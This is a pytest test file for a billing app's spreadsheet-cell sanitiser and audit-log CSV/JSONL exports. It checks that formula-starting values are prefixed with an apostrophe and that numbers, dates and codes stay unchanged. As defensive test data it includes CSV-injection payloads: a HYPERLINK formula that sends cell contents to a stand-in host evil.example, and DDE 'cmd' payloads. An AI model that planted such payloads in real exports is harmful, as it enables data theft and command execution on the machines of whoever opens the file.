"""Cells a spreadsheet would run as formulas are inert; numbers, dates and codes unchanged."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from decimal import Decimal

import pytest

from ccm_pwa.domain.spreadsheet_cells import FORMULA_STARTS, csv_text, inert_cell
from ccm_pwa.services.audit_log import AuditLine, _detail_value, as_csv, as_jsonl

PAYLOADS = ['HYPERLINK("http://evil.example/?d="&A2,"Call")', "cmd|' /C calc'!A0", "1+1",
            "SUM(A1:A9)", "2+3", "", " ", "x"]


@pytest.mark.parametrize("value, shown", [
    ('=HYPERLINK("http://evil.example","Call")', '\'=HYPERLINK("http://evil.example","Call")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1 555 0100", "'+1 555 0100"),
    ("-2+3", "'-2+3"),
    ("+2+3", "'+2+3"),
    ("--1", "'--1"),
    ("- 5", "'- 5"),
    ("-5e3", "'-5e3"),  # not a plain decimal: quoted, still reads as the text typed
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\tcmd", "'\tcmd"),
    ("\r=1+1", "'\r=1+1"),
    ("\0=1", "'\0=1"),
    ("=1+1", "'=1+1"),
    ("=", "'="),
    ("-", "'-"),
    ("+", "'+"),
    ("@", "'@"),
    ("-Smith, Ana", "'-Smith, Ana"),
    ("-\u0663", "'-\u0663"),  # an Arabic-Indic digit is not a plain number here
])
def test_formula_starts_are_made_inert(value: str, shown: str) -> None:
    assert inert_cell(value) == shown


@pytest.mark.parametrize("start", FORMULA_STARTS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_trigger_with_every_payload_gets_the_apostrophe(start: str, payload: str) -> None:
    assert inert_cell(start + payload) == "'" + start + payload


@pytest.mark.parametrize("value", [
    "-12.50", "+3", "-7", "-0", "0.5", "-.5", "+.5", "-5.", "42", ".5", "0",
    "2026-11-30", "2026-11-30T15:00:00+00:00", "99490", "99439", "E11.9", "I10 E11.9",
    "1245319599", "MRN-0042", "Alvarez, Maria", "O'Neil", "Smith-Jones", "", "R1 = ok",
    "a@b.example", "ip=127.0.0.1 ua=x", "cli user=ops host=h", "standard_99490",
    "'=already text", "\n=1+1", " =1+1", "Ünal, Zoë", "中村",
])
def test_values_a_biller_relies_on_are_unchanged(value: str) -> None:
    assert inert_cell(value) == value


def test_inert_is_idempotent() -> None:
    for value in ("=1+1", "-2+3", "@x", "\tx", "-12.50", "Lee"):
        assert inert_cell(inert_cell(value)) == inert_cell(value)


def test_non_text_values_become_their_text() -> None:
    assert (inert_cell(None), inert_cell(-5), inert_cell(0), inert_cell(1.25),
            inert_cell(Decimal("-12.50")), inert_cell(date(2026, 11, 30))) == \
        ("", "-5", "0", "1.25", "-12.50", "2026-11-30")


def test_a_csv_round_trips_with_inert_cells() -> None:
    text = csv_text(["name", "amount", "note"], [
        {"name": '=cmd|" /C calc"!A0', "amount": "-12.50", "note": 'said "hi",\nthen\r=1'},
        {"name": "Lee, Ana", "amount": None},
    ])
    assert text.splitlines()[0] == "name,amount,note"
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows == [{"name": '\'=cmd|" /C calc"!A0', "amount": "-12.50",
                     "note": 'said "hi",\nthen\r=1'},
                    {"name": "Lee, Ana", "amount": "", "note": ""}]


def test_a_carriage_return_inside_a_cell_cannot_start_a_row() -> None:
    """Python's `csv` writes a bare CR unquoted when lines end in `\\n`; readers break the
    row there, and the text after it would be a fresh, un-neutralised first cell."""
    text = csv_text(["name", "code"], [{"name": "Lee\r=HYPERLINK(1)", "code": "99490"},
                                       {"name": "Ng", "code": "99439"}])
    assert text == 'name,code\n"Lee\r=HYPERLINK(1)",99490\nNg,99439\n'
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["name", "code"], ["Lee\r=HYPERLINK(1)", "99490"], ["Ng", "99439"]]


def test_lines_end_in_a_line_feed_and_plain_cells_are_unquoted() -> None:
    text = csv_text(["month", "amount"], [{"month": "2026-10", "amount": "-12.50"}])
    assert text == "month,amount\n2026-10,-12.50\n"


def test_no_cell_read_back_starts_a_formula() -> None:
    values = [start + payload for start in FORMULA_STARTS for payload in PAYLOADS]
    text = csv_text(["v"], [{"v": value} for value in values])
    for row, value in zip(csv.DictReader(io.StringIO(text, newline="")), values, strict=True):
        assert row["v"] == "'" + value


LINE = AuditLine("2026-11-30T15:00:00+00:00", "=kim@x.example", "sign_in", "failure",
                 "@MRN1", "ip=127.0.0.1 ua=x",
                 {"why": "bad_password", "email": "=HYPERLINK(1)", "n": -3})


def test_the_audit_csv_is_inert_and_its_detail_is_one_json_cell() -> None:
    [row] = list(csv.DictReader(io.StringIO(as_csv([LINE]))))
    assert row["user"] == "'=kim@x.example"
    assert row["patient_mrn"] == "'@MRN1"
    assert row["occurred_at"] == "2026-11-30T15:00:00+00:00"
    assert row["client"] == "ip=127.0.0.1 ua=x"
    assert row["detail"] == '{"email": "=HYPERLINK(1)", "n": -3, "why": "bad_password"}'


def test_the_audit_jsonl_detail_is_an_object() -> None:
    [line] = [json.loads(text) for text in as_jsonl([LINE]).splitlines()]
    assert line["detail"] == {"email": "=HYPERLINK(1)", "n": -3, "why": "bad_password"}
    assert list(line["detail"]) == ["email", "n", "why"]
    assert list(line) == ["occurred_at", "user", "action", "outcome", "patient_mrn", "client",
                          "detail"]
    assert line["user"] == "=kim@x.example"  # JSON is not a spreadsheet: kept as it is


@pytest.mark.parametrize("stored, exported", [
    ({"month": "2026-10"}, {"month": "2026-10"}),
    ('{"month": "2026-10"}', {"month": "2026-10"}),  # JSON text is parsed
    ("not json {", "not json {"),  # anything else stays text
    (None, {}),
    ([1, 2], [1, 2]),
])
def test_a_stored_detail_is_exported_as_json(stored: object, exported: object) -> None:
    assert _detail_value(stored) == exported


def test_a_detail_that_is_not_json_stays_text_in_both_exports() -> None:
    line = AuditLine("2026-11-30T15:00:00+00:00", "", "legacy", "success", "", "",
                     _detail_value("=free text"))
    assert json.loads(as_jsonl([line]))["detail"] == "=free text"
    [row] = list(csv.DictReader(io.StringIO(as_csv([line]))))
    assert row["detail"] == "'=free text"
